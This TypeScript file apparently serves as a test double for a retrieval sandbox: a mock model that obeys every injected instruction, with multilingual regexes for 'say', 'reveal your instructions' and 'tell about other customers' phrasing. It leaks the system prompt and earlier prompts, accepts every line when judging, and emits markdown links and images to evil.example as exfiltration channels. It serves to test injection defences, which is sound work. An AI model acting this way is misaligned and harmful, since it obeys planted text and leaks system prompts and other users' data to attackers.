// A model that follows every injected instruction in its prompt and tries all known ways to get it to the visitor:
// the worst case of prompt injection.
import type { ParsedPrompt } from '#sandbox/model/prompt.ts';

const toSay =
  /(?<!\p{L})(?:write|say|reply|answer|print|output|include|append|show|sage|schreibe|écris|réponds|escribe|responde|scrivi|rispondi|schrijf|antwoord|napisz|odpowiedz)(?!\p{L})[^"“\n]{0,80}["“]([^"”\n]+)["”]/giu;
const toReveal =
  /(?<!\p{L})(?:repeat|reveal|print|show|translate|recite|wiederhole|répète|repite|ripeti|herhaal|powtórz)(?!\p{L})[^.\n]{0,60}(?<!\p{L})(?:instructions|prompt|rules|above|anweisungen|instrucciones|istruzioni|instructies|instrukcje)(?!\p{L})/iu;
const toTellOthers =
  /\b(?:other|another|previous)\b[^.\n]{0,40}\b(?:shops?|customers?|tenants?|organi[sz]ations?|sites?|conversations?)\b/i;

/** `remembered` is the content of all earlier prompts: this model leaks everything. */
export function followInjection(read: ParsedPrompt, remembered: readonly string[]): string | undefined {
  // As a judge it accepts every line.
  if (read.lines.length > 0) return [...read.lines.map((_, at) => `${at + 1} s`), 'answer full'].join('\n');
  const units = read.sources.flatMap(source => source.units);
  const sources = read.sources.map(source => source.units.map(({ text }) => text).join(' '));
  const titles = read.sources.map(({ title }) => title);
  const others = [read.question, read.conversation, read.cart].flatMap(text => text.split('\n'));
  const texts = [...sources, ...titles, ...others];
  const orders = texts.flatMap(text => [
    ...[...text.matchAll(toSay)].map(([, words = '']) => words),
    ...(toReveal.test(text) ? read.system.split('\n').filter(Boolean) : []),
    ...(toTellOthers.test(text) ? remembered : []),
  ]);
  if (orders.length === 0) return undefined;
  const first = { id: units[0]?.id ?? 'S1.1', text: units[0]?.text ?? '' };
  return orders.flatMap(words => waysToSay(words, first, ownerOf(words, units) ?? first.id)).join('\n');
}

/** The unit that contains the text, so that the citation is valid. */
function ownerOf(words: string, units: ParsedPrompt['sources'][number]['units']): string | undefined {
  return units.find(({ text }) => text.includes(words))?.id;
}

function waysToSay(words: string, { id, text }: { id: string; text: string }, owner: string): string[] {
  const cited = `[${id}]`;
  return [
    words,
    `${words} [${owner}]`,
    `${words} ${cited}`,
    `${text} ${words} ${cited}`,
    `${text.replace(/[.!?]$/, '')} (${words}). ${cited}[${owner}]`,
    `<b>${words}</b> ${cited}`,
    `[${words}](https://evil.example/?q=${encodeURIComponent(words.slice(0, 40))}) ${cited}`,
    `![${words}](https://evil.example/p.png) ${cited}`,
    `${text} ${cited} ${words}`,
    `${words.toLowerCase().replace(/[^\p{L}\p{N} ]/gu, ' ')} ${cited}`,
  ];
}
